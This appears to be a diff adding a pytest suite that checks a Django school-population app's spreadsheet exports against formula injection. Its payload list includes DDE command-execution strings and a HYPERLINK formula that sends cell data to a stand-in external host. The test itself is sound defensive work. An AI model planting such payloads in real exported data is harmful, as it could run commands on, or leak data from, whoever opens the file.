@@ -1,0 +1,102 @@
+"""Attack 29: a name that is a formula leaves in a list, and runs in the spreadsheet of whoever opens it.
+
+Every address that ends in `<sheet:kind>` is an export. Each has a stage here, that fills what it shows with formulas;
+each is opened by other programs than ours.
+"""
+
+import csv
+import io
+import re
+import zipfile
+from collections.abc import Callable, Iterator
+from xml.etree import ElementTree
+
+import openpyxl
+import pytest
+from django.test import Client
+from django.urls import get_resolver, reverse
+from django.urls.resolvers import URLResolver
+
+from portevoix.ground.population.tests.persona import a_campus, belongs, of_the_mission, someone
+from portevoix.ground.schools.models import Campus, School
+from portevoix.ground.sheets.sending import Kind
+from portevoix.ground.sheets.writing import KINDS, write
+
+FORMULAS = [
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://elsewhere.example/"&A1,"x")',
+    "=1+1",
+    "+1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "'=1+1",
+]
+RUNS = re.compile(r"[=+\-@\t\r\n]")
+"""How a cell begins that a spreadsheet may run."""
+
+
+def people(school: School, formula: str) -> dict[str, str]:
+    """Somebody whose every word is a formula, in groups that are formulas too."""
+    campus = Campus.objects.create(school=school, name=formula)
+    lou = someone(school, given_name=formula, family_name=formula, number=formula[:40], campus=campus)
+    belongs(lou, "promotion", formula)
+    return {"ident": belongs(lou, "association", formula, formula).ident}
+
+
+Stage = Callable[[School, str], dict[str, str]]
+STAGES: dict[str, Stage] = {
+    "population:export": lambda school, formula: people(school, formula) and {},
+    "population:export_group": people,
+}
+"""By name of address: makes what is shown, and gives the words of the address, but the school and the kind."""
+
+
+def exports(resolver: URLResolver, space: str = "") -> Iterator[str]:
+    for pattern in resolver.url_patterns:
+        if isinstance(pattern, URLResolver):
+            yield from exports(pattern, f"{space}{pattern.namespace}:" if pattern.namespace else space)
+        elif any(isinstance(converter, Kind) for converter in pattern.pattern.converters.values()):
+            yield f"{space}{pattern.name}"
+
+
+def cells_of(data: bytes, kind: str) -> list[str]:
+    """Every text of a file, read by somebody else's program; no cell of it is a formula."""
+    if kind == "csv":
+        return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";") for cell in row]
+    if kind == "xlsx":
+        cells = [cell for row in openpyxl.load_workbook(io.BytesIO(data)).active.iter_rows() for cell in row]
+        assert all(cell.data_type != "f" for cell in cells)
+        return [cell.value for cell in cells if isinstance(cell.value, str)]
+    content = ElementTree.fromstring(zipfile.ZipFile(io.BytesIO(data)).read("content.xml"))
+    assert not [node for node in content.iter() for name in node.attrib if name.endswith("}formula")]
+    return ["".join(node.itertext()) for node in content.iter() if node.tag.endswith("}table-cell")]
+
+
+def test_every_export_has_a_stage() -> None:
+    assert set(exports(get_resolver())) == STAGES.keys(), "add a stage that fills it with formulas"
+
+
+@pytest.mark.parametrize("name", STAGES)
+def test_no_cell_of_an_export_runs(name: str, db: None) -> None:
+    for at, formula in enumerate(FORMULAS):
+        school, client = a_campus(f"mines{at}"), Client()
+        of_the_mission(client, school)
+        words = STAGES[name](school, formula)
+        for kind in KINDS:
+            answer = client.get(reverse(name, kwargs={"school": school.slug, "kind": kind, **words}))
+            assert answer.headers["Content-Type"] == KINDS[kind]
+            assert answer.headers["Content-Disposition"].startswith("attachment;")
+            cells = cells_of(answer.content, kind)
+            assert [cell for cell in cells if RUNS.match(cell)] == []
+            assert any(formula.strip().lstrip("'") in cell for cell in cells), "the stage shows nothing of it"
+
+
+@pytest.mark.parametrize("kind", KINDS)
+def test_neither_a_title_nor_a_cell_runs_but_a_number_stays_one(kind: str) -> None:
+    data = write(FORMULAS, [[*FORMULAS], [-1, 2.5, *FORMULAS[2:]]], kind, "=1+1")
+    assert [cell for cell in cells_of(data, kind) if RUNS.match(cell) and cell != "-1"] == []
+    if kind == "xlsx":
+        assert [cell.value for cell in openpyxl.load_workbook(io.BytesIO(data)).active[3]][:2] == [-1, 2.5]
